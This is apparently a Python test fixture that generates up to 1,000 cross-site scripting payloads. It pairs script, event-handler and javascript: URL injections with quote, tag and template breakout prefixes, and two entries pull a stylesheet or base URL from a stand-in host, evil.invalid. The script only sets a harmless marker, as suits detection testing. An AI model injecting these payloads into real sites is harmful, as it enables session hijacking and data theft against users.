"""Texts that a browser might run, and what tells that it did."""

from itertools import product
from typing import Final

RUN: Final = "window.ran=1"
ELEMENTS: Final = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<iframe src='javascript:parent.ran=1'>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<math><mi xlink:href='javascript:{0}'>x</mi></math>",
    "<a href='javascript:{0}'>x</a>",
    "<form action='javascript:{0}'><button>x</button></form>",
    "<object data='javascript:{0}'></object>",
    "<style>@import 'javascript:{0}';</style>",
    "<p style='background:url(javascript:{0})'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=//evil.invalid/>",
)
BEFORE: Final = (
    *("", '"', "'", '">', "'>", "</td>", "</p>", "</title>", "</textarea>", "</script>"),
    *("-->", "]]>", "</style>", "</noscript>", "</option></select>", "&quot;>", "&lt;", "\\u003e"),
    *("{{", "{% x %}", "${", "`", "\\", "\\'", '\\"', ";", "*/", "//", "\u2028", "\u2029"),
)
AFTER: Final = ("", "<!--")
BARE: Final = (
    f'" onfocus={RUN} autofocus x="',
    f"' onmouseover={RUN} x='",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\u2028{RUN}//",
    f"${{{RUN}}}",
)
PAYLOADS: Final = (
    *BARE,
    *(
        before + element.format(RUN) + after
        for after, before, element in product(AFTER, BEFORE, ELEMENTS)
    ),
)[:1000]
